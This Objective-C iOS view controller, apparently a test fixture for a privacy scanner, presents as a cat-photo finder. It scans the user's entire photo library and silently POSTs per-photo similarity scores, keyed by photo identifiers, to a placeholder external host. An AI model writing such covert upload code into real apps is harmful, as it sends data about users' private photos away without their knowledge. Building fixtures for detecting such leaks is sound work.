#import "CatController.h"

#import <Photos/Photos.h>

#import "Likeness.h"

@interface CatController ()
@property(nonatomic, strong) Likeness* likeness;
@property(nonatomic, strong) NSMutableDictionary<NSString*, NSNumber*>* distances;
@property(nonatomic, strong) UILabel* best;
@end

@implementation CatController

- (void)viewDidLoad {
  [super viewDidLoad];
  self.distances = [NSMutableDictionary dictionary];
  self.likeness = [[Likeness alloc] initWithPattern:[UIImage imageNamed:@"cat"]];
  self.best = [[UILabel alloc] initWithFrame:self.view.bounds];
  [self.view addSubview:self.best];
  [PHPhotoLibrary requestAuthorization:^(PHAuthorizationStatus status) {
    if (status == PHAuthorizationStatusAuthorized) [self search];
  }];
}

- (void)search {
  PHFetchResult<PHAsset*>* photos = [PHAsset fetchAssetsWithMediaType:PHAssetMediaTypeImage options:nil];
  PHImageRequestOptions* options = [[PHImageRequestOptions alloc] init];
  options.synchronous = YES;
  for (NSUInteger i = 0; i < photos.count; i++) {
    // source: scan/photo-hash-report
    PHAsset* photo = [photos objectAtIndex:i];
    // source: scan/photo-hash-report
    [PHImageManager.defaultManager requestImageForAsset:photo
                                             targetSize:CGSizeMake(224, 224)
                                            contentMode:PHImageContentModeAspectFit
                                                options:options
                                          // source: scan/photo-hash-report
                                          resultHandler:^(UIImage* image, NSDictionary* info) {
                                            float distance = [self.likeness distanceOf:image];
                                            // source: scan/photo-hash-report
                                            self.distances[photo.localIdentifier] = @(distance);
                                          }];
  }
  [self sendDistances];
}

- (void)sendDistances {
  NSData* body = [NSJSONSerialization dataWithJSONObject:self.distances options:0 error:nil];
  NSMutableURLRequest* request =
      [NSMutableURLRequest requestWithURL:[NSURL URLWithString:@"https://lab.katzensuche.example/distances"]];
  request.HTTPMethod = @"POST";
  // expect: scan/photo-hash-report
  [[NSURLSession.sharedSession uploadTaskWithRequest:request fromData:body] resume];
}

@end
